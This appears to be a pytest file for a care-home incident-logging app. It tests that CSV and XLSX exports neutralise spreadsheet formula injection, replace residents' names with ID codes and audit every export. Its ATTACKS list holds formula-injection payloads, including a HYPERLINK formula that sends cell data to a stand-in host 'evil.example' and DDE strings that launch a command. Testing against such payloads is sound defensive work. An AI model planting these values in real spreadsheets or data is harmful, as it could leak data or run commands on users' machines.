"""Exports: no cell runs as a formula (CSV and XLSX), names in free text become ID codes, every export audited."""

from __future__ import annotations

import csv
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from carelog.core.dto import SYSTEM_ACTOR, Actor
from carelog.core.enums import Role
from carelog.core.errors import PermissionDenied
from carelog.core.spreadsheet_safety import csv_cell, unguard_csv_cell
from carelog.services.registry import Services
from tests.conftest import Home
from tests.services.test_accounts import _incident

ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
# Leading tabs and carriage returns never reach the database (input is trimmed), so the writers get them directly.
WHITESPACE_ATTACKS = ("\t=1+1", "\r=1+1")


def _report(services: Services, home: Home, account: str, **extra: object) -> str:
    data = replace(_incident(home, services), account=account, **extra)  # type: ignore[arg-type]
    return services.incidents.report(data).reference


@pytest.fixture
def attacked(services: Services, home: Home) -> Services:
    services.ctx.identity.actor = SYSTEM_ACTOR
    for text in ATTACKS:
        _report(services, home, f"{text} padding so the account is long enough", witnesses=text, immediate_action=text)
    return services


def test_csv_cells_that_look_like_formulas_are_written_as_text(attacked: Services, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert attacked.exporter.export(out, "csv") == len(ATTACKS)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    witnesses = sorted(r["witnesses"] for r in rows)
    assert witnesses == sorted("'" + a for a in ATTACKS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_xlsx_never_holds_a_formula(attacked: Services, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    attacked.exporter.export(out, "xlsx")
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert 'HYPERLINK("http://evil.example/' in sheet.replace("&quot;", '"')  # kept, as plain text
    from openpyxl import load_workbook

    ws = load_workbook(out).active
    assert ws is not None
    texts = {c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert set(ATTACKS) <= texts
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_tab_and_carriage_return_starts_are_text_in_both_writers(tmp_path: Path) -> None:
    from carelog.services.export import _write_csv, _write_xlsx

    rows = [{"reference": "INC-1", "description": a, "risk_score": -3} for a in WHITESPACE_ATTACKS]
    from carelog.db.repositories import export as export_repo

    full = [{c: row.get(c, "") for c in export_repo.EXPORT_COLUMNS} for row in rows]
    _write_csv(tmp_path / "w.csv", full)
    with (tmp_path / "w.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert [r["description"] for r in csv.DictReader(fh)] == ["'" + a for a in WHITESPACE_ATTACKS]
    _write_xlsx(tmp_path / "w.xlsx", full)
    with zipfile.ZipFile(tmp_path / "w.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "<v>-3</v>" in sheet  # a number stays a number


def test_guard_round_trip_and_ordinary_text_untouched() -> None:
    for attack in ATTACKS + WHITESPACE_ATTACKS:
        assert unguard_csv_cell(str(csv_cell(attack))) == attack
    assert csv_cell("Found on the floor") == "Found on the floor"
    assert csv_cell(-3) == -3  # numbers are not text: a negative score stays a number
    assert unguard_csv_cell("'quoted on purpose") == "'quoted on purpose"


def test_exported_csv_imports_again_with_the_original_text(services: Services, home: Home, tmp_path: Path) -> None:
    services.ctx.identity.actor = SYSTEM_ACTOR
    _report(services, home, "-- dash first, then the account of what happened")
    out = tmp_path / "out.csv"
    services.exporter.export(out, "csv")
    from carelog.core.csv_import import plan_import

    plan = plan_import(out.read_text(encoding="utf-8-sig"), services.incidents.reference_data(), services.ctx.clock())
    assert not plan.problems
    assert [item.data.account for item in plan.items] == ["-- dash first, then the account of what happened"]


def test_names_in_free_text_become_id_codes(services: Services, home: Home, tmp_path: Path) -> None:
    services.ctx.identity.actor = SYSTEM_ACTOR
    _report(
        services,
        home,
        "Edith Marsh slipped; Mrs Bright helped Edith up and Walter called the nurse.",
        person_ids=(home.person_ids[0],),
        witnesses="Walter Bright",
        immediate_action="Stayed with Edith until the nurse came.",
    )
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        services.exporter.export(out, fmt)
        blob = out.read_bytes() if fmt == "csv" else zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
        text = blob.decode("utf-8-sig")
        assert not re.search(r"Edith|Marsh|Bright", text), text
        assert "OH-014 slipped; OH-022 helped OH-014 up" in text
        assert "Stayed with OH-014 until" in text


def test_every_export_is_audited_and_care_staff_are_refused(services: Services, home: Home, tmp_path: Path) -> None:
    manager = Actor(None, "Priya Shah", Role.MANAGER)
    services.ctx.identity.actor = manager
    _report(services, home, "Found on the lounge floor beside the armchair.")
    services.exporter.export(tmp_path / "a.csv", "csv")
    services.ctx.identity.actor = Actor(None, "Sam Okafor", Role.CARE_STAFF)
    with pytest.raises(PermissionDenied):
        services.exporter.export(tmp_path / "b.csv", "csv")
    assert not (tmp_path / "b.csv").exists()
    from sqlalchemy import select

    from carelog.db.models import AuditRow

    with services.ctx.unit() as session:
        query = select(AuditRow.actor_name, AuditRow.action, AuditRow.field).where(AuditRow.entity == "export")
        entries = [tuple(r) for r in session.execute(query)]
    assert ("Priya Shah", "export", "csv") in entries
    assert ("Sam Okafor", "denied", "export") in entries
